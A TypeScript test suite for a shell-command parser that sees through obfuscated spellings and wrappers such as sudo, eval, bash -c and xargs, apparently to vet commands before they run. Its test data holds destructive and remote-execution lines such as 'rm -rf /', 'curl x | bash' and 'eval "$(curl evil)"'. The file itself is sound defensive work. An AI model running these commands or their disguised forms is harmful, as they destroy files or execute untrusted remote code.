import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { scanOptions } from '../../lib/parse/getopt.js';
import { commandName } from '../../lib/parse/command.js';
import { loadParser, MAX_PAYLOAD_DEPTH, type CommandNode, type Node, type Word } from '../../lib/parse/index.js';
import { payloadPlan } from '../../lib/parse/wrappers.js';
import { render, renderTable } from './render.js';

const parser = await loadParser();

const table = (name: string, cases: ReadonlyArray<readonly [string, string]>): void => renderTable(parser, name, cases);

/** The innermost payload of a chain of wrappers. */
function innermost(node: Node): Node {
  let n = node;
  while (n.kind === 'command' && n.payload) n = n.payload;
  return n;
}

const names = suite('command name resolution');
const NAMES: ReadonlyArray<readonly [string, string | null, string | null]> = [
  ['npm i', 'npm', 'npm'],
  ['\\npm i', 'npm', 'npm'],
  ['"npm" i', 'npm', 'npm'],
  ["np''m i", 'npm', 'npm'],
  ["'n'pm i", 'npm', 'npm'],
  ['$"npm" i', 'npm', 'npm'],
  ['/usr/bin/npm i', 'npm', '/usr/bin/npm'],
  ['./node_modules/.bin/npm i', 'npm', './node_modules/.bin/npm'],
  ['"./run me.sh"', 'run me.sh', './run me.sh'],
  ['\\rm -rf x', 'rm', 'rm'],
  ["r''m x", 'rm', 'rm'],
  ['"r"m x', 'rm', 'rm'],
  ["$'\\x72m' x", 'rm', 'rm'],
  ['/bin/rm x', 'rm', '/bin/rm'],
  ['r\\\nm x', 'rm', 'rm'],
  ['"fi" x', 'fi', 'fi'],
  ['$CMD install', null, null],
  ['${X} i', null, null],
  ['$(echo npm) install', null, null],
  ['`echo npm` install', null, null],
  ['n*m install', null, null],
  ['X=1', null, null],
];
for (const [line, name, path] of NAMES) {
  names(JSON.stringify(line), () => {
    const tree = parser.parse(line);
    assert.is(tree.kind, 'command');
    assert.is((tree as CommandNode).name, name);
    assert.is((tree as CommandNode).path, path);
  });
}
names('commandName strips paths and package versions', () => {
  assert.is(commandName('/usr/bin/npm'), 'npm');
  assert.is(commandName('cowsay@1.2', true), 'cowsay');
  assert.is(commandName('@scope/pkg@1.2', true), 'pkg');
  assert.is(commandName('@scope/pkg', true), 'pkg');
  assert.is(commandName('a@b'), 'a@b');
});
names.run();

// Obfuscated spellings of the same command all resolve to it, through wrappers too.
const obfuscations = suite('obfuscations resolve to the command they run');
const RM = ['\\rm x', "r''m x", '"r"m x', "$'\\x72m' x", '/bin/rm x', 'command rm x', 'env rm x', 'sudo -u root rm x', 'sudo -- rm x',
  "bash -c 'rm x'", "sh -c \"sh -c 'rm x'\"", 'eval "rm x"', "eval 'r''m' x", 'nice -n 5 rm x', 'nohup rm x', 'timeout 5 rm x',
  'xargs rm x', 'find . -exec rm x \\;', "env -S 'rm x'", 'exec rm x', 'builtin command rm x', 'time rm x', 'r\\\nm x', 'sudo bash <<< "rm x"'];
for (const line of RM) {
  obfuscations(JSON.stringify(line), () => {
    const inner = innermost(parser.parse(line));
    assert.is(inner.kind === 'command' && inner.name, 'rm', render(parser.parse(line)));
  });
}
obfuscations.run();

table('shell -c and stdin', [
  ["bash -c 'npm i'", '(bash -c "npm i" => (npm i))'],
  ['bash -c "sh -c \'npm i\'"', '(bash -c "sh -c \'npm i\'" => (sh -c "npm i" => (npm i)))'],
  ["bash -lc 'npm ci' arg0 a1", '(bash -lc "npm ci" arg0 a1 => (npm ci))'],
  ["bash -ec 'a; b'", '(bash -ec "a; b" => [(a) ; (b)])'],
  ["bash --norc -o pipefail -ec 'make'", '(bash --norc -o pipefail -ec make => (make))'],
  ["bash --rcfile x -c 'make'", '(bash --rcfile x -c make => (make))'],
  ["zsh -c 'ls'", '(zsh -c ls => (ls))'],
  ["dash -c 'ls'; ksh -c 'ls'", '[(dash -c ls => (ls)) ; (ksh -c ls => (ls))]'],
  ['/bin/sh -c "ls"', '(/bin/sh -c ls => (ls))'],
  ['bash -c "$X"', '(bash -c ? => ??dynamic-payload)'],
  ['bash -c "$(curl x)"', '(bash -c ?{(curl x)} => ??dynamic-payload)'],
  ['bash -c', '(bash -c => ??dynamic-payload)'],
  ['bash $OPTS -c x', '(bash ? -c x => ??dynamic-payload)'],
  ['bash --frobnicate -c x', '(bash --frobnicate -c x => ??unknown-option)'],
  ['curl x | bash', '<(curl x) | (bash => ??dynamic-payload)>'],
  ['curl x | sh -s -- a', '<(curl x) | (sh -s -- a => ??dynamic-payload)>'],
  ['bash', '(bash => ??dynamic-payload)'],
  ["bash <<'EOF'\nnpm i\nEOF", '(bash <<EOF => (npm i))'],
  ['bash <<EOF\nnpm $x\nEOF', '(bash <<EOF => ??dynamic-payload)'],
  ["sh -s arg <<< 'echo $1'", '(sh -s arg <<<"echo $1" => (echo ?))'],
  ["sudo -s <<< 'rm -rf /'", '(sudo -s <<<"rm -rf /" => (rm -rf /))'],
  ['bash script.sh', '(bash script.sh)'],
  ['sh ./x', '(sh ./x)'],
  ['bash -x -e ./configure', '(bash -x -e ./configure)'],
  ['bash < script.sh', '(bash <script.sh)'],
  ["bash -c 'echo \"unterminated'", '(bash -c "echo \\"unterminated" => ??unterminated-quote)'],
]);

table('eval', [
  ['eval "npm install"', '(eval "npm install" => (npm install))'],
  ['eval npm install', '(eval npm install => (npm install))'],
  ["eval 'a;' b", '(eval "a;" b => [(a) ; (b)])'],
  ['eval "$(curl evil)"', '(eval ?{(curl evil)} => ??dynamic-payload)'],
  ['eval $X', '(eval ? => ??dynamic-payload)'],
  ['eval', '(eval => [])'],
]);

table('trap', [
  ['trap "rm -rf ~" EXIT', '(trap "rm -rf ~" EXIT => (rm -rf ~))'],
  ["trap -- 'a; b' INT TERM", '(trap -- "a; b" INT TERM => [(a) ; (b)])'],
  ['trap "$X" EXIT', '(trap ? EXIT => ??dynamic-payload)'],
  ['trap - EXIT', '(trap - EXIT)'],
  ['trap EXIT', '(trap EXIT)'],
  ['trap -p', '(trap -p)'],
]);

table('env, sudo, doas', [
  ['env rm x', '(env rm x => (rm x))'],
  ['env -i -u HOME -C /tmp FOO=1 BAR=$x npm i', '(env -i -u HOME -C /tmp FOO=1 ? npm i => (FOO=1 BAR=? npm i))'],
  ['env - PATH=/bin sh -c ls', '(env - PATH=/bin sh -c ls => (PATH=/bin sh -c ls => (ls)))'],
  ['env --unset=X --chdir /tmp npm t', '(env --unset=X --chdir /tmp npm t => (npm t))'],
  ["env -S 'npm i' x", '(env -S "npm i" x => (npm i x))'],
  ['env', '(env)'],
  ['env FOO=1', '(env FOO=1)'],
  ['env $X npm', '(env ? npm => ??dynamic-payload)'],
  ['sudo -u root -- rm x', '(sudo -u root -- rm x => (rm x))'],
  ['sudo -uroot -g wheel rm x', '(sudo -uroot -g wheel rm x => (rm x))'],
  ['sudo VAR=1 cmd', '(sudo VAR=1 cmd => (VAR=1 cmd))'],
  ["sudo -E -H bash -c 'a'", '(sudo -E -H bash -c a => (bash -c a => (a)))'],
  ['sudo --user=root --preserve-env=PATH make', '(sudo --user=root --preserve-env=PATH make => (make))'],
  ['sudo -l', '(sudo -l)'],
  ['sudo -e /etc/hosts', '(sudo -e /etc/hosts)'],
  ['sudo', '(sudo)'],
  ['sudo -i', '(sudo -i => ??dynamic-payload)'],
  ['sudo --frob x', '(sudo --frob x => ??unknown-option)'],
  ['sudo -Z x', '(sudo -Z x => ??unknown-option)'],
  ['sudo "$OPT" x', '(sudo ? x => ??dynamic-payload)'],
  ['sudo -u "$U" npm i', '(sudo -u ? npm i => (npm i))'],
  ['doas -u root npm i', '(doas -u root npm i => (npm i))'],
  ['doas -s', '(doas -s => ??dynamic-payload)'],
  ["sudo -g wheel -- env -- bash -c 'printf %s \"$HOME\"'", '(sudo -g wheel -- env -- bash -c "printf %s \\"$HOME\\"" => (env -- bash -c "printf %s \\"$HOME\\"" => (bash -c "printf %s \\"$HOME\\"" => (printf %s ?))))'],
]);

table('command, builtin, exec', [
  ['command rm x', '(command rm x => (rm x))'],
  ['command -p npm i', '(command -p npm i => (npm i))'],
  ['command -v npm', '(command -v npm)'],
  ['command -V npm', '(command -V npm)'],
  ['builtin cd /', '(builtin cd / => (cd /))'],
  ['exec -a name npm i', '(exec -a name npm i => (npm i))'],
  ['exec -cl npm i', '(exec -cl npm i => (npm i))'],
  ['exec 3>f', '(exec 3>f)'],
  ['exec', '(exec)'],
]);

table('process wrappers', [
  ['nice -n 5 make', '(nice -n 5 make => (make))'],
  ['nice -10 make', '(nice -10 make => (make))'],
  ['nice --adjustment=3 make', '(nice --adjustment=3 make => (make))'],
  ['nice', '(nice)'],
  ['nohup node server.js &', '[(nohup node server.js => (node server.js)) &]'],
  ['timeout 10s npm test', '(timeout 10s npm test => (npm test))'],
  ['timeout -k 5 -s KILL 10 npm test', '(timeout -k 5 -s KILL 10 npm test => (npm test))'],
  ['timeout --preserve-status --signal=TERM 1m make', '(timeout --preserve-status --signal=TERM 1m make => (make))'],
  ['timeout 5', '(timeout 5)'],
  ['stdbuf -oL -e0 grep x', '(stdbuf -oL -e0 grep x => (grep x))'],
  ['stdbuf --output=L grep x', '(stdbuf --output=L grep x => (grep x))'],
  ['ionice -c 3 -n7 make', '(ionice -c 3 -n7 make => (make))'],
  ['ionice -p 1', '(ionice -p 1)'],
  ['chrt -f 5 make', '(chrt -f 5 make => (make))'],
  ['chrt -p 5 123', '(chrt -p 5 123)'],
  ['time -p npm i', '(time -p npm i => (npm i))'],
  ['time npm i', '(time npm i => (npm i))'],
  ['setsid -f node server.js', '(setsid -f node server.js => (node server.js))'],
  ['nice -n 5 nohup timeout -k 5 10s stdbuf -oL ionice -c 3 chrt 5 time -p npm test',
    '(nice -n 5 nohup timeout -k 5 10s stdbuf -oL ionice -c 3 chrt 5 time -p npm test => (nohup timeout -k 5 10s stdbuf -oL ionice -c 3 chrt 5 time -p npm test => (timeout -k 5 10s stdbuf -oL ionice -c 3 chrt 5 time -p npm test => (stdbuf -oL ionice -c 3 chrt 5 time -p npm test => (ionice -c 3 chrt 5 time -p npm test => (chrt 5 time -p npm test => (time -p npm test => (npm test))))))))'],
]);

table('xargs and find', [
  ['xargs rm', '(xargs rm => (rm))'],
  ['xargs -0 -n1 -I{} rm {}', '(xargs -0 -n1 "-I{}" rm "{}" => (rm "{}"))'],
  ['xargs -I {} -P 4 --max-args=2 cp {} /tmp', '(xargs -I "{}" -P 4 --max-args=2 cp "{}" /tmp => (cp "{}" /tmp))'],
  ["xargs -i{} sh -c 'rm \"$@\"' _", '(xargs "-i{}" sh -c "rm \\"$@\\"" _ => (sh -c "rm \\"$@\\"" _ => (rm ?)))'],
  ['xargs', '(xargs)'],
  ['xargs --show-limits', '(xargs --show-limits)'],
  ['find . -name x', '(find . -name x)'],
  ["find . -name '*.js' -exec rm {} \\;", '(find . -name "*.js" -exec rm "{}" ";" => (rm "{}"))'],
  ["find . -exec rm {} + -execdir sh -c 'echo $1' _ {} ';'", '(find . -exec rm "{}" + -execdir sh -c "echo $1" _ "{}" ";" => [(rm "{}") && (sh -c "echo $1" _ "{}" => (echo ?))])'],
  ['find . -ok rm {} \\; -okdir cat {} \\;', '(find . -ok rm "{}" ";" -okdir cat "{}" ";" => [(rm "{}") && (cat "{}")])'],
  ['find . -exec echo a + b \\;', '(find . -exec echo a + b ";" => (echo a + b))'],
  ['find . -exec', '(find . -exec => ??parse-error)'],
  ['find . -exec \\;', '(find . -exec ";" => ??parse-error)'],
  ['find $DIR -delete', '(find ? -delete => ??dynamic-payload)'],
  ['find "$DIR" -delete', '(find ? -delete)'],
]);

table('package runners', [
  ['npx -y create-react-app@latest my-app', '(npx -y create-react-app@latest my-app => (create-react-app@latest my-app))'],
  ["npx -c 'npm i'", '(npx -c "npm i" => (npm i))'],
  ['npx --package=typescript tsc --init', '(npx --package=typescript tsc --init => (tsc --init))'],
  ['npx -p typescript -- tsc', '(npx -p typescript -- tsc => (tsc))'],
  ['npx --weird-flag foo', '(npx --weird-flag foo => ??unknown-option)'],
  ['npx --constructor foo', '(npx --constructor foo => ??unknown-option)'],
  ['sudo --__proto__ x', '(sudo --__proto__ x => ??unknown-option)'],
  ['bash --toString -c x', '(bash --toString -c x => ??unknown-option)'],
  ['npx', '(npx)'],
  ['npm exec -- cowsay hi', '(npm exec -- cowsay hi => (cowsay hi))'],
  ['npm x cowsay', '(npm x cowsay => (cowsay))'],
  ['npm install', '(npm install)'],
  ['pnpm dlx @scope/pkg@1.2 x', '(pnpm dlx @scope/pkg@1.2 x => (@scope/pkg@1.2 x))'],
  ["pnpm dlx -c 'echo hi | wc'", '(pnpm dlx -c "echo hi | wc" => <(echo hi) | (wc)>)'],
  ['yarn dlx -p typescript tsc', '(yarn dlx -p typescript tsc => (tsc))'],
  ['bunx --bun vite', '(bunx --bun vite => (vite))'],
  ['bun x vite', '(bun x vite => (vite))'],
]);

const packages = suite('package runner payload names');
packages('the package spec resolves to its name without scope or version', () => {
  for (const [line, name] of [['npx cowsay@1.2 hi', 'cowsay'], ['pnpm dlx @scope/pkg@1.2', 'pkg'], ['npx create-vite', 'create-vite']] as const) {
    const payload = (parser.parse(line) as CommandNode).payload;
    assert.is(payload?.kind === 'command' && payload.name, name, line);
  }
});
packages.run();

const depth = suite('payload recursion is bounded');
depth('a chain of wrappers deeper than the limit ends in too-deep', () => {
  const line = `${'eval '.repeat(MAX_PAYLOAD_DEPTH + 2)}npm i`;
  let n: Node | null = parser.parse(line);
  let levels = 0;
  while (n && n.kind === 'command') {
    n = n.payload;
    levels++;
  }
  assert.is(n?.kind, 'unknown');
  assert.is(n?.kind === 'unknown' && n.reason, 'too-deep');
  // The line itself, then MAX_PAYLOAD_DEPTH payloads.
  assert.is(levels, MAX_PAYLOAD_DEPTH + 1);
});
depth('a chain within the limit is fully unwrapped', () => {
  const inner = innermost(parser.parse(`${'eval '.repeat(MAX_PAYLOAD_DEPTH - 1)}npm i`));
  assert.is(inner.kind === 'command' && inner.name, 'npm');
});
depth.run();

/** Words as the parser would give them for plain, unquoted text. */
function words(...values: Array<string | null>): Word[] {
  return values.map((v) => ({ raw: v ?? '$X', value: v, substitutions: [] }));
}

const getopt = suite('scanOptions');
getopt('flags, attached and separate values, --, first operand', () => {
  const scan = scanOptions(words('-ab', '-nvalue', '-n', 'v2', '--long=x', '--sep', 'y', '--', '-notanoption'), {
    flags: 'ab',
    valued: 'n',
    long: { long: 'value', sep: 'value' },
  });
  assert.equal(scan, {
    ok: true,
    options: [{ name: '-a' }, { name: '-b' }, { name: '-n', value: 'value' }, { name: '-n', value: 'v2' }, { name: '--long', value: 'x' }, { name: '--sep', value: 'y' }],
    operands: words('-notanoption'),
  });
});
getopt('stops at the first operand (getopt with a leading +)', () => {
  const scan = scanOptions(words('-a', 'cmd', '-b'), { flags: 'ab' });
  assert.equal(scan.ok && scan.operands.map((w) => w.value), ['cmd', '-b']);
});
getopt('an unknown option or a run-time word stops the scan', () => {
  assert.equal(scanOptions(words('-z', 'cmd'), { flags: 'a' }).ok, false);
  assert.equal(scanOptions(words('--zz', 'cmd'), { flags: 'a' }).ok, false);
  const dynamic = scanOptions(words(null, 'cmd'), { flags: 'a' });
  assert.equal(!dynamic.ok && dynamic.reason, 'dynamic-payload');
});
getopt('a value only known at run time is consumed, not fatal', () => {
  const scan = scanOptions(words('-u', null, 'cmd'), { valued: 'u' });
  assert.equal(scan.ok && scan.operands.map((w) => w.value), ['cmd']);
});
getopt('numeric options and a missing value', () => {
  assert.equal(scanOptions(words('-10', 'make'), { numeric: true }).ok && true, true);
  assert.equal(scanOptions(words('-n'), { valued: 'n' }).ok, false);
});
getopt.run();

const plans = suite('payloadPlan');
plans('non-wrappers have no plan', () => {
  assert.is(payloadPlan('ls', words('-la')), null);
  assert.is(payloadPlan('npm', words('install')), null);
});
plans('bash reading a file is not a payload', () => {
  assert.equal(payloadPlan('bash', words('script.sh')), { kind: 'none' });
});
plans('bash -c gives the string to parse', () => {
  assert.equal(payloadPlan('bash', words('-xc', 'npm i', 'arg0')), { kind: 'text', text: 'npm i', what: 'the -c string npm i' });
});
plans.run();
